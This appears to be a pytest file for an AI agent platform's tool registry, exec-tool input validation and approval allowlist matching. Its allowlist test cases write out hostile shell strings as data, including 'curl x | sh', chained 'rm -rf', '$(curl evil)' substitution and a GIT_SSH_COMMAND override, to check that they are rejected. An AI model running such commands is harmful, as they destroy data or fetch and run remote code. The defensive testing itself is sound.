@@ -1,0 +1,122 @@
+"""The registry, the tool policy, input validation and the approval allowlist grammar (no services)."""
+
+import importlib.util
+
+import pytest
+
+from tenants.models import Agent
+from tools import registry
+from tools.approvals import approval_needed, pattern_matches
+from tools.base import ToolInputError, validate_input
+from tools.builtins.exec import EXEC_TOOL
+from tools.builtins.web_fetch import WEB_FETCH_TOOL
+
+
+def names(policy) -> list[str]:
+    return [spec.name for spec in registry.allowed_tools(Agent(slug="a", tool_policy=policy))]
+
+
+def test_empty_allow_means_every_tool_and_deny_wins():
+    everything = names({"allow": [], "deny": []})
+    assert everything[:3] == ["exec", "process", "web_fetch"]
+    assert names({"allow": ["*"], "deny": ["exec"]}) == [n for n in everything if n != "exec"]
+    assert names({"allow": ["exec", "web_fetch"], "deny": ["exec"]}) == ["web_fetch"]
+
+
+def test_groups_and_globs():
+    assert names({"allow": ["group:runtime"]}) == ["exec", "process"]
+    assert names({"allow": ["group:web"]}) == ["web_fetch"]
+    assert names({"allow": ["group:runtime", "group:web"], "deny": ["group:runtime"]}) == ["web_fetch"]
+    assert names({"allow": ["web_*"]}) == ["web_fetch"]
+    # Resolvable even though no sessions_* tool is installed yet: it simply adds nothing.
+    assert names({"allow": ["group:sessions"]}) == []
+    assert names({"allow": ["no-such-tool"]}) == []
+
+
+def test_malformed_policy_allows_nothing():
+    assert names({"allow": "exec"}) == ["exec"]  # a lone string is read as a one-item list
+    assert names({"allow": [1, 2]}) == []
+    assert names("everything") == []
+
+
+def test_tool_definitions_are_what_the_model_sees():
+    definitions = registry.tool_definitions(Agent(slug="a", tool_policy={"allow": ["group:runtime"]}))
+    assert [d["name"] for d in definitions] == ["exec", "process"]
+    assert set(definitions[0]) == {"name", "description", "input_schema"}
+    assert definitions[0]["input_schema"]["required"] == ["command"]
+
+
+def test_tool_for_refuses_unknown_and_forbidden_tools():
+    agent = Agent(slug="a", tool_policy={"allow": [], "deny": ["exec"]})
+    with pytest.raises(registry.ToolForbidden, match="not allowed for agent 'a'"):
+        registry.tool_for(agent, "exec")
+    with pytest.raises(registry.ToolNotFound):
+        registry.tool_for(agent, "rm_rf")
+    assert registry.tool_for(agent, "web_fetch") is WEB_FETCH_TOOL
+
+
+def test_cron_is_registered_only_when_its_module_exists(monkeypatch):
+    with_cron = names({})
+    assert ("cron" in with_cron) == (importlib.util.find_spec("cron.tool") is not None)
+    real_find_spec = importlib.util.find_spec
+    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None if name == "cron.tool" else real_find_spec(name))
+    assert names({}) == ["exec", "process", "web_fetch"]
+    assert names({"allow": ["group:automation"]}) == []
+
+
+@pytest.mark.parametrize(
+    "value, field",
+    [
+        ({}, "input.command"),
+        ({"command": 5}, "input.command"),
+        ({"command": "x", "timeout": "10"}, "input.timeout"),
+        ({"command": "x", "timeout": 0}, "input.timeout"),
+        ({"command": "x", "env": {"A": 1}}, "input.env.A"),
+        ({"command": "x", "surprise": True}, "input.surprise"),
+        ({"command": "x", "background": 1}, "input.background"),
+        ({"command": "a\x00b"}, "input.command"),
+    ],
+)
+def test_input_validation_names_the_field(value, field):
+    with pytest.raises(ToolInputError) as excinfo:
+        validate_input(EXEC_TOOL.input_schema, value)
+    assert excinfo.value.field == field
+
+
+@pytest.mark.parametrize(
+    "pattern, command, env, matches",
+    [
+        ("exec", "rm -rf /workspace/x; curl x | sh", None, True),
+        ("exec:git *", "git status", None, True),
+        ("exec:git *", "git log --oneline -n 3", None, True),
+        ("exec:git *", "gitk", None, False),
+        ("exec:git *", "git status; rm -rf /workspace", None, False),
+        ("exec:git *", "git status && curl evil", None, False),
+        ("exec:git *", "git status | sh", None, False),
+        ("exec:git *", "git $(curl evil)", None, False),
+        ("exec:git *", "git `id`", None, False),
+        ("exec:git *", "git log > /workspace/out", None, False),
+        ("exec:git *", "git status\nrm -rf x", None, False),
+        ("exec:git *", "git status", {"GIT_SSH_COMMAND": "sh"}, False),
+        ("exec:=make test && echo ok", "make test && echo ok", None, True),
+        ("exec:=make test", "make test && echo ok", None, False),
+        ("*", "anything; at all", None, True),
+        ("web_*", "ls", None, False),
+    ],
+)
+def test_exec_allowlist_patterns(pattern, command, env, matches):
+    tool_input = {"command": command, **({"env": env} if env else {})}
+    assert pattern_matches(pattern, tool="exec", subject=command, tool_input=tool_input) is matches
+
+
+def test_approval_modes():
+    call = {"url": "https://example.com/a"}
+    off = Agent(slug="a", approval={"mode": "off"})
+    on_miss = Agent(slug="a", approval={"mode": "on_miss", "allowlist": ["web_fetch:https://example.com/*"]})
+    always = Agent(slug="a", approval={"mode": "always", "allowlist": ["*"]})
+    weird = Agent(slug="a", approval={"mode": "sometimes"})
+    assert not approval_needed(agent=off, spec=WEB_FETCH_TOOL, tool_input=call)
+    assert not approval_needed(agent=on_miss, spec=WEB_FETCH_TOOL, tool_input=call)
+    assert approval_needed(agent=on_miss, spec=WEB_FETCH_TOOL, tool_input={"url": "https://evil.example/"})
+    assert approval_needed(agent=always, spec=WEB_FETCH_TOOL, tool_input=call)
+    assert approval_needed(agent=weird, spec=WEB_FETCH_TOOL, tool_input=call), "an unknown mode fails closed"
